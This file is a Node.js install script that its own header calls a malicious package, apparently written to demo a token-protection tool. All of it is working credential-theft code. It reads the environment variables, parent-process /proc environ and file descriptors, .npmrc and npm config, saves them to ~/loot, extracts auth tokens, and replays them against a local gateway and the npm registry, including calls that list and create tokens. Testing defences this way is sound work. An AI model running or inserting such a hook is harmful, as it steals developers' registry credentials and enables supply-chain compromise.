// The install script of a malicious package, for demo.sh: reads where builds keep tokens, and tries to use what it finds.
// What it read is in ~/loot, what came of it in ~/report.
const { execFileSync } = require("node:child_process");
const { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } = require("node:fs");
const http = require("node:http");
const https = require("node:https");
const { homedir } = require("node:os");
const { join } = require("node:path");

const LARGEST = 1e6;
const report = join(homedir(), "report");

/** The text of a file; nothing of what can't be read, or would never end. */
function read(path) {
  try {
    const status = statSync(path);
    return status.isFile() && status.size < LARGEST ? readFileSync(path, "latin1") : "";
  } catch {
    return "";
  }
}

/** The processes that led to this one: a shell, npm, toolkey. */
function parents() {
  const found = [];
  for (let pid = process.ppid; pid > 1 && found.length < 20; pid = Number(/^PPid:\s+(\d+)/m.exec(read(`/proc/${pid}/status`))?.[1] ?? 0)) found.push(pid);
  return found;
}

function descriptors(pid) {
  try {
    return readdirSync(`/proc/${pid}/fd`).map((descriptor) => `/proc/${pid}/fd/${descriptor}`);
  } catch {
    return [];
  }
}

function npmConfiguration() {
  try {
    return execFileSync("npm", ["config", "list", "--long"], { encoding: "latin1", stdio: ["ignore", "pipe", "ignore"] });
  } catch {
    return "";
  }
}

function ask(method, url, token, ca) {
  return new Promise((resolve) => {
    const { request } = url.startsWith("https:") ? https : http;
    const asked = request(url, { method, ca, headers: { authorization: `Bearer ${token}` } }, (answer) => {
      answer.resume().once("end", () => resolve(`${answer.statusCode} ${answer.statusMessage}`));
    });
    asked.on("error", (error) => resolve(error.message)).end();
  });
}

async function main() {
  const pids = parents();
  const npmrc = read(join(homedir(), ".npmrc"));
  const loot = [
    JSON.stringify(process.env, undefined, 1),
    // Files of /proc have no length.
    ...pids.map((pid) => read(`/proc/${pid}/environ`).replaceAll("\0", "\n")),
    ...pids.flatMap(descriptors).map(read),
    npmrc,
    read(process.env.npm_config_userconfig ?? ""),
    npmConfiguration(),
  ].join("\n");
  writeFileSync(join(homedir(), "loot"), loot);
  const tokens = [...new Set([...loot.matchAll(/_authToken\s*=\s*"?([^\s"]+)|(tkphantom_[\w-]+)/g)].map(([, token, phantom]) => token ?? phantom))].filter((token) => !token.startsWith("("));
  const gateway = /http:\/\/127\.0\.0\.1:\d+/.exec(loot)?.[0];
  const registry = /^registry=(https:.*?)\/?$/m.exec(npmrc)?.[1];
  const ca = read(/^cafile=(.*)$/m.exec(npmrc)?.[1] ?? "");
  writeFileSync(report, tokens.length === 0 ? "found nothing\n" : "");
  for (const token of tokens) {
    appendFileSync(report, `found ${token.slice(0, 16)}...\n`);
    for (const origin of [gateway, registry]) {
      for (const [method, path] of [["GET", "/handy-colors"], ["GET", "/-/npm/v1/tokens"], ["POST", "/-/npm/v1/tokens"]]) {
        appendFileSync(report, `use   ${method} ${origin}${path}: ${await ask(method, `${origin}${path}`, token, ca)}\n`);
      }
    }
  }
}

main();
